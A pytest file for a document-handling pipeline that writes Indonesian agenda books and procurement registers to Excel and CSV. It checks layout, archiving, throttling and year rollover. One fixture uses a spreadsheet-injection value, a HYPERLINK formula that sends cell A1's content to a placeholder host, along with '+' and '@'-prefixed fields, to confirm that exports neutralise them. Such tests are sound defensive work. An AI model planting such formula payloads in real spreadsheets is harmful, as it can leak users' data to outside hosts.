"""The books: agenda masuk and keluar and the SOP's four registers, on screen, as CSV and as
print-ready Excel, and kept current in archive/<year>/buku/ after every change."""

import csv
import datetime as dt
import time

import openpyxl
import pytest
from click.testing import CliRunner
from support.builders import HEADER, MEMO_NOMOR, action, registration, registration_yaml, tab_memo
from support.cli import jsonl

from pipeline import engine
from pipeline.cli import main
from pipeline.outputs import books, exports, yearly_books

FORMULA_HAL = '=HYPERLINK("http://contoh.invalid/"&A1,"klik")'


@pytest.fixture
def sent(config, cli):
    """One case taken through the whole SOP to a sent letter; its memo's Hal looks like a formula."""
    tab_memo(config.inbox / "nota.docx", {**HEADER, "Hal": FORMULA_HAL})
    action(config.inbox / "kapus.yaml", "disposisi_kapus")
    action(config.inbox / "kabid.yaml", "disposisi_kabid")
    registration_yaml(
        config.inbox / "registrasi.yaml",
        registration(unit="+Badan Litbang", ppk=[{**registration()["ppk"][0], "jabatan": "@Kabag"}]),
    )
    assert cli("run").exit_code == 0
    for langkah in ("otentikasi", "periksa", "setujui", "kirim"):
        assert cli("act", MEMO_NOMOR, langkah).exit_code == 0, langkah
    return config


def sheet_values(sheet, row):
    return [cell.value for cell in sheet[row]]


def test_the_workbook_is_made_to_be_printed_and_checked_cell_by_cell(sent, cli, tmp_path):
    assert cli("register", "--xlsx", str(tmp_path / "buku.xlsx")).exit_code == 0
    book = openpyxl.load_workbook(tmp_path / "buku.xlsx")
    assert book.sheetnames == ["Agenda Masuk", "Agenda Keluar", "Unit Pengguna", "PPK", "ULP-Panitia", "Paket dan Pagu"]
    for sheet, key in zip(book.worksheets, books.BOOKS):
        header = exports.HEADER_ROW
        assert sheet_values(sheet, header) == [c.name for c in books.BOOKS[key].columns]
        assert sheet["A1"].value == books.BOOKS[key].title
        assert sheet.freeze_panes == f"A{header + 1}"
        assert sheet.print_title_rows == f"${header}:${header}"
        assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == 1
        assert sheet.oddFooter.center.text == "Halaman &P dari &N"
        # nothing a sender wrote becomes a formula, whatever it starts with
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    masuk = book["Agenda Masuk"]
    no, diterima, nomor_agenda, dari, surat, hal, keterangan = sheet_values(masuk, 5)
    assert no == 1 and nomor_agenda.startswith("0001/SM/")
    assert isinstance(diterima, dt.datetime) and masuk["B5"].number_format == exports.DATE_FORMAT
    assert (dari, surat) == (HEADER["Dari"], f"7 Oktober 2026, {MEMO_NOMOR}")
    assert hal == FORMULA_HAL and masuk["F5"].data_type == "s" and masuk["F5"].quotePrefix
    assert keterangan == "Kasus 2026-0001." or keterangan.endswith("Kasus 2026-0001.")

    keluar = book["Agenda Keluar"]
    no, nomor, klasifikasi, tanggal_surat, dikirim, _kepada, hal, _ = sheet_values(keluar, 5)
    assert no == 1 and nomor.startswith("000.4.5/1/Pusdatinkomtel/")
    assert klasifikasi == "000.4.5 Pengolahan Sistem Informasi Pengadaan"
    assert isinstance(tanggal_surat, dt.datetime) and isinstance(dikirim, dt.datetime)
    assert keluar["D5"].number_format == exports.DATE_FORMAT

    unit = dict(zip([c.name for c in books.BOOKS["unit"].columns], sheet_values(book["Unit Pengguna"], 5)))
    assert unit["Unit Kerja"] == "+Badan Litbang" and book["Unit Pengguna"]["B5"].data_type == "s"
    assert (unit["PPK"], unit["Panitia"], unit["Paket"], unit["Tahun Anggaran"]) == (1, 3, 2, 2027)
    assert unit["Jumlah Pagu"] == 2_395_000_000 and book["Unit Pengguna"]["I5"].number_format == exports.RUPIAH_FORMAT
    assert (unit["Status"], unit["Nota Dinas Balasan"]) == ("Selesai", nomor)
    assert isinstance(unit["Tanggal Kirim"], dt.datetime) and unit["Kasus"] == "2026-0001"

    ppk = sheet_values(book["PPK"], 5)
    assert ppk[:6] == [
        1,
        "+Badan Litbang",
        "Dr. Hendra Gunawan, M.Si.",
        "19710605 199803 1 004",
        "@Kabag",
        "050/21/SK/LITBANG/2026",
    ]
    assert ppk[7] == "+628119876543" and book["PPK"]["H5"].data_type == "s"
    panitia = [sheet_values(book["ULP-Panitia"], row)[2:5] for row in (5, 6, 7)]
    assert panitia[0] == ["Rina Marlina, S.T.", "19800314 200604 2 002", "Ketua"]
    assert [p[2] for p in panitia] == ["Ketua", "Sekretaris", "Anggota"]
    paket = book["Paket dan Pagu"]
    assert sheet_values(paket, 5)[2:8] == [
        "Pengadaan Server dan Penyimpanan Data Penelitian",
        2_300_000_000,
        "APBN",
        "pelelangan umum",
        "Dr. Hendra Gunawan, M.Si.",
        "19710605 199803 1 004",
    ]
    assert paket["D5"].number_format == exports.RUPIAH_FORMAT and paket["D6"].value == 95_000_000
    assert paket.max_row == 6


def test_the_sop_registers_as_csv_and_on_screen(sent, cli, tmp_path):
    assert cli("register", "--buku", "paket", "--csv", str(tmp_path / "paket.csv")).exit_code == 0
    with open(tmp_path / "paket.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    assert rows[0] == [c.name for c in books.BOOKS["paket"].columns]
    assert rows[1][1:4] == ["'+Badan Litbang", "Pengadaan Server dan Penyimpanan Data Penelitian", "Rp2.300.000.000,00"]
    screen = cli("register", "--buku", "panitia").output
    assert "DAFTAR ULP/PANITIA" in screen and "Rina" in screen and "Anggota" in screen
    refused = cli("register", "--buku", "ppk", "--json")
    assert refused.exit_code == 2 and "--json hanya untuk buku agenda" in refused.output
    missing = cli("register", "--xlsx", str(tmp_path / "tidak-ada" / "buku.xlsx"))
    assert missing.exit_code == 1 and "tidak dapat ditulis" in missing.output


def test_the_books_in_the_archive_follow_every_change_and_verify_stays_clean(config, cli):
    tab_memo(config.inbox / "nota.docx")
    cli("run")
    year = dt.date.today().year
    folder = config.archive / str(year) / "buku"
    assert {p.name for p in folder.iterdir()} == yearly_books.file_names(year)
    sheet = openpyxl.load_workbook(folder / f"buku-agenda-{year}.xlsx")["Unit Pengguna"]
    assert sheet["J5"].value == "Menunggu data"
    registration_yaml(config.inbox / "registrasi.yaml")
    action(config.inbox / "kapus.yaml", "disposisi_kapus")
    action(config.inbox / "kabid.yaml", "disposisi_kabid")
    cli("run")
    sheet = openpyxl.load_workbook(folder / f"buku-agenda-{year}.xlsx")["Unit Pengguna"]
    assert (sheet["F5"].value, sheet["J5"].value) == (1, "Dalam proses")
    with open(folder / f"daftar-ppk-{year}.csv", encoding="utf-8-sig", newline="") as handle:
        assert len(list(csv.reader(handle, delimiter=";"))) == 2
    assert cli("act", MEMO_NOMOR, "otentikasi").exit_code == 0  # pipeline act is a change too
    assert cli("act", MEMO_NOMOR, "periksa").exit_code == 0
    assert cli("act", MEMO_NOMOR, "setujui").exit_code == 0
    with open(folder / f"agenda-surat-keluar-{year}.csv", encoding="utf-8-sig", newline="") as handle:
        assert len(list(csv.reader(handle, delimiter=";"))) == 2
    result = cli("verify")
    assert result.exit_code == 0 and "Arsip utuh" in result.output


def test_the_books_are_not_written_again_while_the_register_has_not_changed(config, cli):
    """At 100,000 entries a year the books take a minute to write: an unchanged register is not."""
    tab_memo(config.inbox / "nota.docx")
    cli("run")
    workbook = config.archive / str(dt.date.today().year) / "buku" / f"buku-agenda-{dt.date.today().year}.xlsx"
    written = workbook.stat().st_mtime_ns
    for command in (("run",), ("status",), ("register",)):
        assert cli(*command).exit_code == 0
    assert workbook.stat().st_mtime_ns == written
    assert cli("act", MEMO_NOMOR, "disposisi_kapus").exit_code == 0
    assert workbook.stat().st_mtime_ns != written


def test_books_that_take_long_to_write_wait_twenty_times_as_long_between_writes(config, cli):
    tab_memo(config.inbox / "nota.docx")
    cli("run")
    folder = config.archive / str(dt.date.today().year) / "buku"
    workbook = folder / f"buku-agenda-{dt.date.today().year}.xlsx"
    head, seconds, _ = (folder / ".rantai").read_text().split()
    assert float(seconds) < 1.0
    (folder / ".rantai").write_text(f"{head} 60.0 {time.time():.0f}\n")  # as if a minute, just now
    written = workbook.stat().st_mtime_ns
    assert cli("act", MEMO_NOMOR, "disposisi_kapus").exit_code == 0
    assert workbook.stat().st_mtime_ns == written  # a change, but too soon after a slow write
    (folder / ".rantai").write_text(f"{head} 60.0 {time.time() - 1201:.0f}\n")  # twenty minutes ago
    assert cli("act", MEMO_NOMOR, "disposisi_kabid").exit_code == 0
    assert workbook.stat().st_mtime_ns != written
    assert int((folder / ".rantai").read_text().split()[0]) > int(head)


def test_a_book_that_cannot_be_written_never_stops_the_pipeline(config, cli):
    year = dt.date.today().year
    (config.archive / str(year)).mkdir(parents=True, exist_ok=True)
    (config.archive / str(year) / "buku").write_text("bukan folder")  # something in the way
    tab_memo(config.inbox / "nota.docx")
    result = cli("run")
    assert result.exit_code == 0 and "1 diterima." in result.output
    assert "Buku agenda di arsip belum dapat diperbarui" in result.output
    (config.archive / str(year) / "buku").unlink()
    action(config.inbox / "kapus.yaml", "disposisi_kapus")
    cli("run")
    assert (config.archive / str(year) / "buku" / f"buku-agenda-{year}.xlsx").is_file()


def test_a_year_boundary_starts_new_numbers_and_new_books(config, tmp_path):
    """A memo received on 31 December is answered in January: the letter takes the new year's
    first number, the new year's first memo its first agenda number, each year has its books."""
    jakarta = config.timezone
    clock = {"now": dt.datetime(2026, 12, 31, 16, 30, tzinfo=jakarta)}

    def session(work):
        with engine.open_workspace(config, clock=lambda: clock["now"]) as opened:
            opened.start()
            return work(opened)

    tab_memo(config.inbox / "nota.docx")
    for name, langkah in (("kapus.yaml", "disposisi_kapus"), ("kabid.yaml", "disposisi_kabid")):
        action(config.inbox / name, langkah)
    registration_yaml(config.inbox / "registrasi.yaml")
    session(lambda w: w.process_inbox())
    session(lambda w: [w.act(MEMO_NOMOR, langkah) for langkah in ("otentikasi", "periksa")])
    clock["now"] = dt.datetime(2027, 1, 4, 8, 15, tzinfo=jakarta)
    session(lambda w: w.act(MEMO_NOMOR, "setujui"))
    tab_memo(config.inbox / "baru.docx", {**HEADER, "Nomor": "027/1/ULP-X/I/2027"})
    session(lambda w: w.process_inbox())

    runner = CliRunner()
    entries = jsonl(runner.invoke(main, ["--config", str(config.path), "register", "--json"]))
    masuk = [(e["tahun"], e["nomor_urut"], e["nomor_agenda"]) for e in entries if e["buku"] == "masuk"]
    keluar = [(e["tahun"], e["nomor_urut"], e["nomor_surat"], e["kasus"]) for e in entries if e["buku"] == "keluar"]
    assert masuk == [(2026, 1, "0001/SM/2026"), (2027, 1, "0001/SM/2027")]
    assert keluar == [(2027, 1, "000.4.5/1/Pusdatinkomtel/2027", "2026-0001")]

    old = openpyxl.load_workbook(config.archive / "2026" / "buku" / "buku-agenda-2026.xlsx")
    new = openpyxl.load_workbook(config.archive / "2027" / "buku" / "buku-agenda-2027.xlsx")
    assert old["Agenda Masuk"].max_row == 5 and old["Agenda Keluar"].max_row == exports.HEADER_ROW
    assert new["Agenda Masuk"]["C5"].value == "0001/SM/2027" and new["Agenda Keluar"]["B5"].value.endswith("/2027")
    # the registers of the new year's books hold every case, the old year's memo too
    assert [new["Unit Pengguna"][f"M{row}"].value for row in (5, 6)] == ["2026-0001", "2027-0001"]
    runner.invoke(
        main,
        [
            "--config",
            str(config.path),
            "register",
            "--tahun",
            "2026",
            "--buku",
            "unit",
            "--csv",
            str(tmp_path / "unit-2026.csv"),
        ],
    )
    with open(tmp_path / "unit-2026.csv", encoding="utf-8-sig", newline="") as handle:
        assert [row[-1] for row in csv.reader(handle, delimiter=";")] == ["Kasus", "2026-0001"]
